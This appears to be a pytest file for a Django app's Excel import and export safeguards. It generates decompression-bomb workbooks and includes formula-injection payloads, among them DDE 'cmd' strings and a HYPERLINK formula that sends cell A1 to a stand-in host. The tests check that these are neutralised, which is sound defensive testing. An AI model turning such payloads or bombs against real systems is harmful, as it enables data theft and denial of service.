"""§4 Excel: imports read in streaming mode within limits; exports never write a live formula.

The two hostile workbooks of the issue are built here: a 90 KB shared-strings bomb (about 37 MB of
strings once unpacked) and a ~200 KB file with one 200 MB cell. Each is read in a fresh process, which
reports its peak memory growth and time: refused within 100 MB and 2 s.
"""

import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from common.excel import ImportColumn, build_workbook, read_import
from tests.common import samples

BASE_DIR = Path(__file__).resolve().parents[2]
COLUMNS = [ImportColumn("Mã", "code"), ImportColumn("Tên", "name")]
MB = 1024 * 1024


def hostile_workbook(path: Path, part: str, head: bytes, unit: bytes, count: int, tail: bytes) -> Path:
    """A real workbook whose ``part`` is replaced by head + unit × count + tail, written in a stream."""
    parts = samples.parts_of(samples.xlsx())
    if part == "xl/sharedStrings.xml":  # openpyxl writes inline strings: declare the shared strings part
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"</Types>",
            b'<Override PartName="/xl/sharedStrings.xml" '
            b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in parts.items():
            if name != part:
                archive.writestr(name, data)
        with archive.open(part, "w", force_zip64=True) as stream:
            stream.write(head)
            block = unit * 65536
            for _ in range(count // 65536):
                stream.write(block)
            stream.write(unit * (count % 65536))
            stream.write(tail)
    return path


@pytest.fixture(scope="module")
def shared_strings_bomb(tmp_path_factory):
    path = tmp_path_factory.mktemp("excel") / "bom-chuoi-dung-chung.xlsx"
    head = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    return hostile_workbook(path, "xl/sharedStrings.xml", head, b"<si><t>x</t></si>", 2_200_000, b"</sst>")


@pytest.fixture(scope="module")
def one_huge_cell(tmp_path_factory):
    path = tmp_path_factory.mktemp("excel") / "mot-o-200mb.xlsx"
    head = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            b'<row r="1"><c r="A1" t="inlineStr"><is><t>M\xc3\xa3</t></is></c><c r="B1" t="inlineStr"><is><t>T\xc3\xaan</t></is></c></row>'
            b'<row r="2"><c r="A2" t="inlineStr"><is><t>')
    return hostile_workbook(path, "xl/worksheets/sheet1.xml", head, b"A", 200 * MB, b"</t></is></c></row></sheetData></worksheet>")


READ_IN_A_PROCESS = """
import json, resource, sys, time
import django
django.setup()
import openpyxl.reader.excel  # imports are not the file's cost
from common.excel import ImportColumn, read_import
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
started = time.monotonic()
with open(sys.argv[1], "rb") as file:
    result = read_import(file, [ImportColumn("Mã", "code"), ImportColumn("Tên", "name")])
print(json.dumps({
    "seconds": time.monotonic() - started,
    "growth_mb": (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024,
    "rows": len(result.rows),
    "errors": result.errors,
}))
"""


def read_in_a_process(path: Path) -> dict:
    import os

    env = {k: v for k, v in os.environ.items() if k != "DEBUG"}
    env["DJANGO_SETTINGS_MODULE"] = "thidua.settings"
    done = subprocess.run([sys.executable, "-c", READ_IN_A_PROCESS, str(path)], cwd=BASE_DIR, env=env,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


@pytest.mark.parametrize("sample", ["shared_strings_bomb", "one_huge_cell"])
def test_hostile_workbook_is_refused_within_100_mb_and_2_seconds(sample, request):
    path = request.getfixturevalue(sample)
    with zipfile.ZipFile(path) as archive:
        unpacked = sum(entry.file_size for entry in archive.infolist())
    report = read_in_a_process(path)
    print(f"\n{path.name}: {path.stat().st_size // 1024} KB, {unpacked // MB} MB khi giải nén → "
          f"{report['seconds']:.2f} s, +{report['growth_mb']:.0f} MB, {report['errors']}")
    assert report["rows"] == 0 and len(report["errors"]) == 1
    assert "quá lớn khi giải nén" in report["errors"][0][1]
    assert len(report["errors"][0][1]) < 200
    assert report["seconds"] < 2
    assert report["growth_mb"] < 100


def workbook(rows) -> io.BytesIO:
    return io.BytesIO(samples.xlsx(rows))


def test_import_limits_rows_columns_and_cell_length(settings):
    settings.IMPORT_LIMITS = {"rows": 3, "columns": 5, "cell": 50}
    ok = read_import(workbook([("Mã", "Tên")] + [(f"M{i}", "Tên") for i in range(3)]), COLUMNS)
    assert ok.ok and len(ok.rows) == 3
    rows = read_import(workbook([("Mã", "Tên")] + [(f"M{i}", "Tên") for i in range(4)]), COLUMNS)
    assert rows.rows == [] and "quá 3 dòng" in rows.errors[0][1]
    wide = read_import(workbook([("Mã", "Tên"), ("M1", "Tên", "", "", "", "thừa")]), COLUMNS)
    assert wide.rows == [] and "quá 5 cột" in wide.errors[0][1]
    long_cell = read_import(workbook([("Mã", "Tên"), ("M1", "x" * 51)]), COLUMNS)
    assert long_cell.rows == [] and "dài quá 50 ký tự" in long_cell.errors[0][1]
    assert len(long_cell.errors[0][1]) < 150


def test_import_blank_formatted_rows_do_not_count(settings):
    settings.IMPORT_LIMITS = {"rows": 2}
    result = read_import(workbook([("Mã", "Tên"), ("M1", "A")] + [(None, None)] * 50 + [("M2", "B")]), COLUMNS)
    assert result.ok and [r["code"] for r in result.rows] == ["M1", "M2"]


def test_import_error_message_cuts_the_cell_it_echoes():
    def number(value):
        raise ValueError(f"“{value}” không phải là số")

    result = read_import(workbook([("Mã", "Tên"), ("M1", "9" * 1500)]), [COLUMNS[0], ImportColumn("Tên", "name", number)])
    message = result.errors[0][1]
    assert len(message) < 200 and message.count("9") < 130 and "…" in message


def test_import_lists_at_most_200_errors():
    result = read_import(workbook([("Mã", "Tên")] + [(f"M{i}", None) for i in range(400)]), COLUMNS)
    assert len(result.errors) == 201 and result.errors[-1][1] == "… và 200 lỗi khác."


@pytest.mark.parametrize("payload", ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                                     "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
def test_export_writes_no_live_formula(payload):
    sheet_bytes = io.BytesIO()
    build_workbook(title="Xuất", headers=["Tên", payload], rows=[[payload, 5], ["Bình thường", -3]]).save(sheet_bytes)
    sheet = load_workbook(io.BytesIO(sheet_bytes.getvalue())).active
    for cell in (sheet["B1"], sheet["A2"]):
        assert cell.value == payload and cell.data_type == "s" and cell.quotePrefix
    assert sheet["B3"].value == -3 and sheet["B3"].data_type == "n"  # numbers stay numbers
    raw = zipfile.ZipFile(io.BytesIO(sheet_bytes.getvalue())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw


def shared_strings_workbook(path: Path, count: int) -> Path:
    head = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    return hostile_workbook(path, "xl/sharedStrings.xml", head, b"<si><t>x</t></si>", count, b"</sst>")


def test_shared_strings_up_to_the_limit_read_in_time_and_one_more_is_refused(tmp_path):
    at_limit = read_in_a_process(shared_strings_workbook(tmp_path / "50000.xlsx", 50_000))
    print(f"\n50.000 chuỗi dùng chung: {at_limit['seconds']:.2f} s, +{at_limit['growth_mb']:.0f} MB")
    assert at_limit["growth_mb"] < 100  # its time is printed, not asserted: CI machines are shared
    assert "nhiều ô chữ" not in str(at_limit["errors"])
    over = read_in_a_process(shared_strings_workbook(tmp_path / "50001.xlsx", 50_001))
    assert over["errors"] == [[0, "Bảng tính có quá nhiều ô chữ khác nhau (50001; tối đa 50000)."]]


def test_shared_string_count_across_chunk_boundaries(tmp_path):
    from common.excel import count_shared_strings

    for count in (0, 1, 61_681, 61_682, 200_000):  # 17 bytes each: items straddle the 1 MB chunks
        with zipfile.ZipFile(shared_strings_workbook(tmp_path / f"{count}.xlsx", count)) as archive:
            assert count_shared_strings(archive) == count
